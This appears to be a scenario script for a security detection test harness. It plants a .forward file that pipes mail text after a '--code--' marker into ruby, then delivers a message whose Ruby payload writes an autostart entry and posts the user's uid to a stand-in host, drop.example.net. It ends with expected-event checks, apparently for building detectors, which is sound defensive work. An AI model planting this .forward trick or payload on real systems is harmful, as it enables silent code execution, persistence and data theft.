title="A .forward cuts Ruby out of each message and runs it at delivery"
what="buyer's .forward (planted earlier) filters the body of arriving mail for lines behind a marker and feeds them to ruby. A message arrives; ruby writes an autostart entry and posts the user's name."
user=buyer daemons="cron" store=maildir
setup() {
  printf '\\buyer, "|/usr/bin/gawk '"'"'f; /^--code--/{f=1}'"'"' | /usr/bin/ruby -"\n' > /home/buyer/.forward
  chown buyer: /home/buyer/.forward; chmod 644 /home/buyer/.forward
}
act() {
  small_talk 2
  mail_in --from offers@example.com --to buyer@example.org --subject "Offer 3318" --source 203.0.113.25 --helo smtp.example.com \
    --text "Dear customer,\n\nsee our offer.\n\n--code--\nrequire 'net/http'\nrequire 'fileutils'\nFileUtils.mkdir_p('/home/buyer/.config/autostart')\nFile.write('/home/buyer/.config/autostart/panel.desktop', '[Desktop Entry]')\nNet::HTTP.post(URI('http://drop.example.net/o'), 'id=' + Process.uid.to_s)\n"
  wait_log 'from=<offers@example.com>'
  sleep 4
  small_talk 1
}
truth() {
  mail_step deliver 'to=<buyer@example.org>.*delivered to command' 'local hands the message to the command of .forward'
  exec_step cut 'gawk' 'gawk lets pass what stands behind the marker'
  exec_step execute 'ruby.* -$' 'ruby takes its program from the pipeline'
  file_step persist 'ruby.*open(at)?:write CREATE /home/buyer/.config/autostart/panel.desktop' 'it leaves an autostart entry'
  net_step beacon 'ruby.* 203.0.113.66:80' 'and posts'
}
